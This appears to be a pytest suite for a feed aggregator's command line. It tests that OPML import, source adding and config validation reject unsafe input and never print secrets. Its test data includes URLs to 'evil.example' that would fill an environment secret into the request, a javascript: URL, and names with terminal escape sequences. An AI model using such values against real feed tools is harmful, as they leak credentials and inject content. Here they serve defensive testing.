"""The command line from outside: what it refuses, what it says of it, and what it leaves as it was."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.server import FeedServer, Reply
from tests.whole.site import WholeSite

FEED = "<rss version='2.0'><channel><title>T</title><item><title>x</title><link>https://n.example/1</link></item></channel></rss>"
SECRET = "s3cret-word"


def opml(site: WholeSite, *outlines: str) -> str:
    file = site.folder / "list.opml"
    file.write_text('<opml version="2.0"><body>\n' + "\n".join(outlines) + "\n</body></opml>", "utf-8")
    return str(file)


def faults(site: WholeSite, *arguments: str, code: int = 2, **environ: str) -> list[dict[str, str]]:
    """The faults of the JSON document that a command prints as it fails; the same stand on standard error."""
    process = site.start(*arguments, **environ)
    out, err = process.communicate(timeout=60)
    assert process.returncode == code, (out, err)
    document: dict[str, list[dict[str, str]]] = json.loads(out)
    assert list(document) == ["faults"]
    for each in document["faults"]:
        assert list(each) == ["place", "cause", "mend"]
        assert f"finews-feeds: {each['place']}: {each['cause']}" in err
    return document["faults"]


def states(site: WholeSite, **environ: str) -> dict[str, dict[str, Any]]:
    return {each["name"]: each for each in json.loads(site.run("sources", "list", "--json", **environ))["sources"]}


LEFT_OUT = [
    # name, the attributes of an outline, what is said of it
    ("a secret in the address", 'text="Evil" xmlUrl="http://evil.example/f?k=${MY_SECRET}"', "it holds ${"),
    ("a secret across lines", 'xmlUrl="http://evil.example/g?k=$&#10;{MY_SECRET}"', "it holds ${"),
    ("a port that is none", 'text="Port" xmlUrl="http://a.example:99999/f"', "is no absolute http or https URL"),
    ("a script", 'text="Script" xmlUrl="javascript:alert(1)"', "no absolute http or https URL"),
    ("no address", 'text="None" xmlUrl=""', "its xmlUrl is empty"),
    ("one that is there", 'text="Known" xmlUrl="https://known.example/f"', 'it is in the config, as "known"'),
]


def test_an_import_takes_what_it_can_and_names_the_rest(site: WholeSite) -> None:
    site.sources = [("known", "https://known.example/f", "")]
    site.write()
    file = opml(site, *(f"<outline {case[1]}/>" for case in LEFT_OUT), '<outline xmlUrl="feed://b.example/f"/>')
    out = site.run("sources", "import", file, MY_SECRET=SECRET)
    lines = out.splitlines()
    for number, (name, _, words) in enumerate(LEFT_OUT, 2):
        line = next((each for each in lines if each.startswith(f"left out {file}:{number}: ")), "")
        assert words in line, name
        assert "; " in line, name
    assert f"mended {file}:8: " in out
    assert "added b.example: http://b.example/f" in out
    assert "1 sources added" in out
    assert SECRET not in out
    assert sorted(states(site)) == ["b.example", "known", "site"]
    assert "${" not in site.config.read_text("utf-8")


def test_what_is_no_list_is_refused(site: WholeSite) -> None:
    site.write()
    before = site.config.read_bytes()
    (site.folder / "x.opml").write_text("<rss/>")
    assert "not <opml>" in site.run("sources", "import", str(site.folder / "x.opml"), code=2)
    assert site.config.read_bytes() == before


def page(*links: str) -> Reply:
    named = "".join(f'<link rel="alternate" type="application/rss+xml" href="{link}">' for link in links)
    return Reply(body=f"<!doctype html><title>P</title>{named}", content_type="text/html")


def test_a_feed_that_a_page_names_may_not_have_a_secret_filled_in(site: WholeSite, server: FeedServer) -> None:
    site.allow = [server.host_port]
    site.write()
    before = site.config.read_bytes()
    server.serve("/f?k=${MY_SECRET}", FEED)
    url = server.serve("/page", page("/f?k=${MY_SECRET}"))
    said = site.run("sources", "add", url, code=1, MY_SECRET=SECRET)
    assert f"{server.url}/f?k=${{MY_SECRET}}: it holds ${{" in said
    assert "by hand" in said
    assert site.config.read_bytes() == before
    server.serve("/good", FEED)
    server.serve("/page", page("/f?k=${MY_SECRET}", "/good"))
    site.run("sources", "add", url, "--name", "good", MY_SECRET=SECRET)
    assert states(site)["good"]["url"] == server.url + "/good"
    assert not any(SECRET in each.path for each in server.requests)


def test_the_operator_may_type_a_secret_by_its_name(site: WholeSite, server: FeedServer) -> None:
    site.allow = [server.host_port]
    site.write()
    server.serve(f"/f?k={SECRET}", FEED)
    typed = server.url + "/f?k=${MY_SECRET}"
    out = site.run("sources", "add", typed, "--name", "mine", MY_SECRET=SECRET)
    assert f"added mine: {typed}" in out
    assert f'url = "{typed}"' in site.config.read_text("utf-8")
    server.serve("/login", FEED)
    login = f"http://me:${{MY_SECRET}}@{server.host_port}/login"
    site.run("sources", "add", login, "--name", "login", MY_SECRET=SECRET)
    assert f'url = "{login}"' in site.config.read_text("utf-8")
    assert server.asked("/login")[0].header("authorization")
    assert "the environment has no MY_SECRET" in site.run("sources", "add", typed, code=2)
    server.serve(f"/page?k={SECRET}", page(f"/g?k={SECRET}"))
    server.serve(f"/g?k={SECRET}", FEED)
    said = site.run("sources", "add", server.url + "/page?k=${MY_SECRET}", code=2, MY_SECRET=SECRET)
    assert "a secret would be written out" in said
    said += site.run("sources", "add", server.url + "/none/${MY_SECRET}", code=1, MY_SECRET=SECRET)
    assert SECRET not in said + site.config.read_text("utf-8")


def test_a_secret_is_not_shown_where_its_source_has_moved_to(site: WholeSite, server: FeedServer) -> None:
    site.allow = [server.host_port]
    server.serve(f"/old?k={SECRET}", Reply(301, headers=[("Location", f"/{SECRET}/new?key={SECRET}")]))
    server.serve(f"/{SECRET}/new?key={SECRET}", FEED)
    site.sources = [("a", server.url + "/old?k=${MY_SECRET}", "")]
    site.build(MY_SECRET=SECRET)
    text = site.run("status", MY_SECRET=SECRET) + site.run("sources", "list", MY_SECRET=SECRET)
    assert text.count(f"moved to {server.url}/${{MY_SECRET}}/new?…") == 2
    assert SECRET not in text
    assert states(site, MY_SECRET=SECRET)["a"]["moved_to"] == f"{server.url}/${{MY_SECRET}}/new?…"
    assert SECRET not in site.run("status", "--json", MY_SECRET=SECRET)


REFUSED = [
    # name, arguments of `sources add`, the words of the fault
    ("a name of two lines", ("--name", "a\nb"), "--name: \"a\\u000Ab\" has a line break or a control character"),
    ("a name with an escape", ("--name", "a\x1b[31m"), "has a line break or a control character"),
    ("a blank name", ("--name", " "), "--name: it is empty"),
    ("a blank category", ("--name", "n", "--category", " "), "sources.n.categories: it is empty"),
]  # fmt: skip


@pytest.mark.parametrize(("arguments", "words"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_what_would_spoil_the_config_is_refused_and_the_config_stays(
    site: WholeSite, server: FeedServer, arguments: tuple[str, ...], words: str
) -> None:
    site.allow = [server.host_port]
    site.write()
    before = site.config.read_bytes()
    assert words in site.run("sources", "add", server.serve("/f", FEED), *arguments, code=2)
    assert site.config.read_bytes() == before


WRONG = """[[feeds]]
name = "q"
query = "tag:a AND"
[[feeds]]
name = "Q"
query = "(a"
[store]
url = "mysql://u:${MY_SECRET}@host/db"
[[sources]]
name = "s"
url = "https://a.example/"
interval = "5"
strip = ['(']
alias = { "a" = "b", "b" = "a" }
"""


def test_all_faults_come_at_once_whoever_sees_them(site: WholeSite) -> None:
    site.more = WRONG
    site.posts_more = "strip = ['']"
    site.write()
    found = faults(site, "build", "--json", MY_SECRET=SECRET)
    places = [each["place"].removeprefix(f"{site.config}: ") for each in found]
    assert places == [
        "store.url",
        "posts.site.strip",
        "sources.s.interval",
        "sources.s.strip",
        "sources.s.alias",
        "feeds.q.query, column 10",
        "feeds.Q.query, column 3",
        "feeds[2].name",
    ]
    assert found[0]["cause"] == '"mysql://u:${MY_SECRET}@host/db": no store is known for its scheme'
    assert found[-1]["mend"] == "give each query feed a name of its own"
    assert all(each["mend"] for each in found)
    assert SECRET not in str(found)


@pytest.mark.parametrize("command", [("check",), ("status",), ("explain", "x"), ("sources", "list")])
def test_a_command_that_fails_says_so_in_json(site: WholeSite, command: tuple[str, ...]) -> None:
    site.more = "[htpp]"
    site.write()
    assert faults(site, *command, "--json")[0]["cause"] == "there is no such key"
    site.more = ""
    site.write()
    (site.folder / "var").mkdir()
    (site.folder / "var" / "finews.db").write_bytes(b"not a database" * 100)
    assert "finews.db" in faults(site, *command, "--json", code=3)[0]["place"]


def test_a_source_that_was_taken_out_is_paused_no_more(site: WholeSite, server: FeedServer) -> None:
    site.allow = [server.host_port]
    url = server.serve("/f", FEED)
    site.write()
    comment = "# mine\r\n"
    site.config.write_bytes(comment.encode() + site.config.read_bytes())
    site.run("sources", "add", url, "--name", "a")
    site.run("sources", "pause", "a")
    assert states(site)["a"]["state"] == "paused"
    site.run("sources", "remove", "a")
    assert "there is no source 'a'" in site.run("sources", "remove", "a", code=2)
    site.run("sources", "add", url, "--name", "a")
    assert states(site)["a"]["state"] == "new"
    assert site.config.read_bytes().startswith(comment.encode())


def test_nothing_is_taken_out_where_the_store_cannot_be_used(site: WholeSite) -> None:
    site.sources = [("a", "https://a.example/f", "")]
    site.write()
    (site.folder / "var").mkdir()
    (site.folder / "var" / "finews.db").write_bytes(b"not a database" * 100)
    before = site.config.read_bytes()
    site.run("sources", "remove", "a", code=3)
    assert site.config.read_bytes() == before


def test_the_config_may_be_a_link(site: WholeSite) -> None:
    site.write()
    real = site.config.rename(site.folder / "real.toml")
    Path(site.config).symlink_to(real)
    site.run("sources", "import", opml(site, '<outline xmlUrl="https://b.example/f"/>'))
    assert site.config.is_symlink()
    assert "b.example" in real.read_text("utf-8")
